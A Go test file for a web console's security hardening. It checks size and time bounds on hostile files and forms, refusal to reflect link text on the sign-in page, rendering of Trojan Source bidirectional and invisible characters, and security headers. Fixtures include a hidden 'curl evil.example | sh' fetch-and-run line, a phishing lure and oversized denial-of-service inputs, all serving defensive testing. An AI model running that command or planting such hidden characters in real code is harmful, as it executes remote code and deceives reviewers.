package console_test

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// Files that are huge or made to be slow cost every page that shows them a
// bounded time and size: the revision, the diff, and the editor's preview
// (which any user who may read a draft reaches, even one who may not
// save, by posting a form without a path or from a stale page).
func TestHostileFilesBounded(t *testing.T) {
	s := newStack(t, stackOptions{secure: true})
	f := seed(s, false)
	files := s.files(f.draft)
	files["notes.txt"] = strings.Repeat("x\n", 60_000)
	files["README.md"] = strings.Repeat("\n", 300_000)
	s.setFiles(f.draft, files)
	b := s.browser()
	b.signIn("victor")
	for _, tc := range []struct {
		name string
		get  string
		form []string
		code int
		want string
	}{
		{name: "revision", get: rev(f.draft) + "?file=README.md", code: http.StatusOK},
		{name: "revision, long file", get: rev(f.draft) + "?file=notes.txt", code: http.StatusOK},
		{name: "diff", get: rev(f.draft, "/diff"), code: http.StatusOK, want: "more lines of this diff are not shown"},
		{name: "diff side by side", get: rev(f.draft, "/diff") + "?view=split", code: http.StatusOK, want: "more lines of this diff are not shown"},
		{name: "preview without a path", form: []string{"path", " ", "content", strings.Repeat("\n", 2<<20)}, code: http.StatusUnprocessableEntity},
		{name: "preview of a stale page", form: []string{"path", "a.yaml", "rv", "1", "content", strings.Repeat("- [", 512<<10)}, code: http.StatusConflict},
	} {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			var p page
			if tc.get != "" {
				p = b.get(tc.get)
			} else {
				p = b.form(rev(f.draft, "/edit"), tc.form...)
			}
			if p.code != tc.code {
				t.Fatalf("%d, want %d\n%.2000s", p.code, tc.code, p.body)
			}
			if d := time.Since(start); d > 10*time.Second {
				t.Errorf("took %s", d)
			}
			// The editor's text area gives the text back as it came.
			limit := 8 << 20
			if tc.form != nil {
				limit += 4 << 20
			}
			if len(p.body) > limit {
				t.Errorf("%d bytes of HTML", len(p.body))
			}
			if !strings.Contains(p.body, tc.want) {
				t.Errorf("no %q in the page", tc.want)
			}
		})
	}
}

// A package of thousands of small resources lists the first thousand: the
// page of 36,000 took seconds to make, again on every live update.
func TestResourcesListBounded(t *testing.T) {
	s := newStack(t, stackOptions{secure: true})
	f := seed(s, false)
	files := s.files(f.draft)
	for i := range 10 {
		files[fmt.Sprintf("many/%d.yaml", i)] = strings.Repeat("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n---\n", 300)
	}
	s.setFiles(f.draft, files)
	b := s.browser()
	b.signIn("victor")
	p := b.get(rev(f.draft))
	if rows := strings.Count(p.body, "<td>ConfigMap</td>"); p.code != http.StatusOK || rows > 1000 || rows < 990 || !strings.Contains(p.body, "Only the first 1000 resources are listed") {
		t.Fatalf("%d, %d rows", p.code, rows)
	}
}

// Nothing an outsider puts in a link shows as the server's own words: the
// sign-in page took ?error= and showed it as the identity provider's
// failure, where users type their token.
func TestNoReflectedMessages(t *testing.T) {
	s := newStack(t, stackOptions{secure: true})
	b := s.browser()
	const lure = "session expired, paste your token at evil.example"
	for _, path := range []string{
		"/ui/signin?error=" + url.QueryEscape(lure),
		"/ui/signin?done=" + url.QueryEscape(lure),
		"/ui/signin?expired=" + url.QueryEscape(lure),
	} {
		if p := b.get(path); p.code != http.StatusOK || strings.Contains(p.body, "evil.example") {
			t.Errorf("GET %s: %d, the page shows the link's text:\n%s", path, p.code, p.body)
		}
	}
}

// A stranger's form is refused before its body is read: the sign-in and
// sign-out forms take a few KiB, and the forms of actions are read only
// once the visitor is someone (before, anyone could make the server hold
// 8 MiB per request, as many times as it has connections).
func TestStrangersFormsSmall(t *testing.T) {
	s := newStack(t, stackOptions{secure: true})
	f := seed(s, false)
	b := s.browser()
	p := b.post("/ui/signin", url.Values{"csrf": {b.csrf()}, "token": {strings.Repeat("x", 1<<20)}})
	if p.code != http.StatusRequestEntityTooLarge {
		t.Errorf("a sign-in form of 1 MiB: %d", p.code)
	}
	body := &countingReader{left: 6 << 20}
	req, _ := http.NewRequest("POST", s.srv.URL+rev(f.draft, "/edit"), body)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.ContentLength = 6 << 20
	// With Expect: 100-continue the body goes only once the server reads it.
	req.Header.Set("Expect", "100-continue")
	tr := s.srv.Client().Transport.(*http.Transport).Clone()
	tr.ExpectContinueTimeout = time.Minute
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err == nil {
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("a stranger's form: %d", resp.StatusCode)
		}
	}
	if body.read() > 0 {
		t.Errorf("the server read %d bytes of a stranger's form", body.read())
	}
}

// countingReader is a body of left bytes that counts what was read.
type countingReader struct {
	mu         sync.Mutex
	left, done int
}

func (r *countingReader) Read(p []byte) (int, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.left == 0 {
		return 0, io.EOF
	}
	n := min(len(p), r.left)
	for i := range n {
		p[i] = 'x'
	}
	r.left -= n
	r.done += n
	return n, nil
}

func (r *countingReader) read() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.done
}

// Characters that reorder or hide text (bidirectional controls, the
// "Trojan Source" trick, and other invisible ones) show as what they are
// wherever a reviewer reads files: names, contents, diffs, resources. The
// editor keeps them as they are, so saving changes nothing by itself.
func TestInvisibleCharactersShown(t *testing.T) {
	s := newStack(t, stackOptions{secure: true})
	f := seed(s, false)
	const (
		script = "run\u202Ehs.md"
		body   = "echo ok \u202E; curl evil.example | sh \u2066 zero\u200Bwidth\x07\n"
	)
	files := s.files(f.draft)
	files[script] = body
	files["deploy/cm.yaml"] = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: \"cm\u202Eevil\"\n"
	s.setFiles(f.draft, files)
	pr := s.get(f.draft)
	pr.Annotations = map[string]string{"example.com/ci": "passed\u202E"}
	s.api("PUT", pkgPath+"/packagerevisions/"+f.draft, pr, nil)
	b := s.browser()
	b.signIn("victor")
	for _, path := range []string{
		rev(f.draft),
		rev(f.draft) + "?file=" + url.QueryEscape(script),
		rev(f.draft) + "?file=deploy/cm.yaml",
		rev(f.draft, "/diff"),
		rev(f.draft, "/diff") + "?view=split",
	} {
		p := b.get(path)
		if p.code != http.StatusOK {
			t.Fatalf("GET %s: %d", path, p.code)
		}
		for _, raw := range []string{"\u202E", "\u2066", "\u200B", "\x07"} {
			if strings.Contains(p.body, raw) {
				t.Errorf("GET %s: the page has %U as is", path, []rune(raw)[0])
			}
		}
		if !strings.Contains(p.body, "⟨U+202E⟩") && !strings.Contains(p.body, "⟨U&#43;202E⟩") {
			t.Errorf("GET %s: %U is not shown", path, '\u202E')
		}
	}
	p := b.get(rev(f.draft, "/edit") + "?file=" + url.QueryEscape(script))
	if !strings.Contains(p.body, "\n"+body+"</textarea>") || !strings.Contains(p.body, `name="original" value="`+script+`"`) {
		t.Errorf("the editor does not keep the file as it is:\n%s", p.body)
	}
}

// Every answer of the console carries its security headers, the odd ones
// too: redirects, refusals, errors, a form too large, a live page's empty
// answer, static files.
func TestHeadersOnEveryAnswer(t *testing.T) {
	s := newStack(t, stackOptions{secure: true, liveWait: time.Second})
	f := seed(s, false)
	b := s.browser()
	stranger := s.browser()
	b.signIn("victor")
	big := url.Values{"csrf": {b.csrf()}, "content": {strings.Repeat("x", 9<<20)}}
	for _, tc := range []struct {
		name string
		do   func() page
	}{
		{"redirect of /ui", func() page { return b.get("/ui") }},
		{"redirect to sign in", func() page { return stranger.get(rev(f.v1)) }},
		{"not found", func() page { return b.get("/ui/nope") }},
		{"unclean path", func() page { return b.get("/ui/namespaces/../x") }},
		{"other method", func() page { return b.do(mustRequest("DELETE", s.srv.URL+rev(f.v1))) }},
		{"refused form", func() page { return b.post(rev(f.v1, "/lifecycle"), url.Values{"action": {"propose"}}) }},
		{"stranger's form", func() page { return stranger.post(rev(f.v1, "/lifecycle"), url.Values{"action": {"propose"}}) }},
		{"form too large", func() page { return b.post(rev(f.draft, "/edit"), big) }},
		{"live, nothing changed", func() page { return b.get(rev(f.v1)+"?wait="+s.get(f.v1).ResourceVersion, "HX-Request", "true") }},
		{"live, no right to watch", func() page { return b.get("/ui/namespaces/other/revisions?wait=1", "HX-Request", "true") }},
		{"link from another site", func() page {
			return stranger.get(rev(f.v1), "Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "navigate")
		}},
		{"static", func() page { return b.get("/ui/static/htmx.min.js") }},
		{"static missing", func() page { return b.get("/ui/static/nope.js") }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := tc.do()
			want := map[string]string{
				"Content-Security-Policy": "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'",
				"X-Content-Type-Options":  "nosniff",
				"X-Frame-Options":         "DENY",
				"Referrer-Policy":         "same-origin",
			}
			if !strings.HasPrefix(tc.name, "static") {
				want["Cache-Control"] = "no-store"
			}
			for k, v := range want {
				if got := p.header.Get(k); got != v {
					t.Errorf("%d: %s %q, want %q", p.code, k, got, v)
				}
			}
		})
	}
}

func mustRequest(method, u string) *http.Request {
	req, err := http.NewRequest(method, u, nil)
	if err != nil {
		panic(err)
	}
	return req
}
